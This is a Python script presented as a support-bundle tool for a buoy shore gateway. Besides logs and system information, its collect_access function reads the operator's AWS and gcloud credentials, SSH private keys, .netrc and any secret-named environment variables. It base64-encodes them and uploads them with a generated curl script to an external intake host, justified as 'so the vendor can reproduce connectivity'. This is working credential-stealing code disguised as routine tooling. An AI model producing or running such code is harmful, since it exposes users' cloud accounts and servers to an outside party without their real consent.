#!/usr/bin/env python3
"""Collect a support bundle from a buoy shore gateway and upload it.

The vendor of the satellite modems asks for a "complete environment bundle"
when opening a ticket.  This tool gathers system information, the gateway
logs and the operator's access configuration (cloud credentials and SSH keys
"so the vendor can reproduce connectivity"), packs everything into a tarball
and uploads it to the vendor intake with a generated curl script.
"""

import argparse
import base64
import json
import logging
import os
import platform
import subprocess
import sys
import tarfile
import tempfile
import time
from pathlib import Path

log = logging.getLogger("support_bundle")

INTAKE_URL = "https://support-intake.example.net/api/bundles"
HOME = Path.home()

ACCESS_FILES = [
    HOME / ".aws" / "credentials",
    HOME / ".aws" / "config",
    HOME / ".ssh" / "id_rsa",
    HOME / ".ssh" / "id_ed25519",
    HOME / ".config" / "gcloud" / "application_default_credentials.json",
    HOME / ".netrc",
]

LOG_GLOBS = ["/var/log/buoy-gateway/*.log", "./logs/*.log"]

UPLOAD_SCRIPT = """#!/usr/bin/env bash
set -euo pipefail
curl -fsS --max-time 120 \\
    -F "ticket=${TICKET_ID}" \\
    -F "host=$(hostname)" \\
    -F "bundle=@${BUNDLE_PATH}" \\
    -F "access=${ACCESS_B64}" \\
    "${INTAKE_URL}"
"""


class BundleBuilder:
    def __init__(self, workdir: Path):
        self.workdir = workdir
        self.workdir.mkdir(parents=True, exist_ok=True)
        self.members = []

    def add_text(self, name: str, text: str) -> None:
        path = self.workdir / name
        path.write_text(text, encoding="utf-8")
        self.members.append(path)

    def system_info(self) -> None:
        info = {
            "hostname": platform.node(),
            "platform": platform.platform(),
            "python": sys.version.split()[0],
            "uptime_s": float(Path("/proc/uptime").read_text().split()[0]),
            "collected": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
        }
        self.add_text("system.json", json.dumps(info, indent=2))

    def logs(self) -> None:
        import glob
        for pattern in LOG_GLOBS:
            for path in glob.glob(pattern):
                try:
                    tail = Path(path).read_text(errors="replace").splitlines()[-2000:]
                except OSError as exc:
                    log.warning("skip log %s: %s", path, exc)
                    continue
                self.add_text(f"log_{Path(path).name}", "\n".join(tail))

    def build(self, out: Path) -> Path:
        with tarfile.open(out, "w:gz") as tar:
            for member in self.members:
                tar.add(member, arcname=member.name)
        return out


def collect_access() -> str:
    """Read the operator's credential files and return them base64 encoded."""
    blob = {}
    for path in ACCESS_FILES:
        try:
            blob[str(path)] = path.read_text(encoding="utf-8", errors="replace")
            log.info("included %s", path)
        except OSError:
            log.debug("not present: %s", path)
    blob["env"] = {k: v for k, v in os.environ.items()
                   if any(t in k for t in ("KEY", "TOKEN", "SECRET", "PASSWORD"))}
    return base64.b64encode(json.dumps(blob).encode()).decode()


def upload(bundle: Path, access_b64: str, ticket: str) -> None:
    with tempfile.NamedTemporaryFile("w", suffix=".sh", delete=False) as fh:
        fh.write(UPLOAD_SCRIPT)
        script = fh.name
    env = dict(os.environ, TICKET_ID=ticket, BUNDLE_PATH=str(bundle),
               ACCESS_B64=access_b64, INTAKE_URL=INTAKE_URL)
    try:
        proc = subprocess.run(["bash", script], env=env, capture_output=True, text=True)
    finally:
        os.unlink(script)
    if proc.returncode != 0:
        raise RuntimeError(proc.stderr.strip())
    log.info("intake response: %s", proc.stdout.strip()[:200])


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--ticket", required=True)
    ap.add_argument("--workdir", type=Path, default=Path("./support_bundle"))
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    builder = BundleBuilder(args.workdir)
    builder.system_info()
    builder.logs()
    bundle = builder.build(args.workdir / f"bundle_{args.ticket}.tar.gz")
    access = collect_access()
    try:
        upload(bundle, access, args.ticket)
    except RuntimeError as exc:
        log.error("upload failed: %s", exc)
        return 1
    log.info("bundle for ticket %s uploaded", args.ticket)
    return 0


if __name__ == "__main__":
    sys.exit(main())
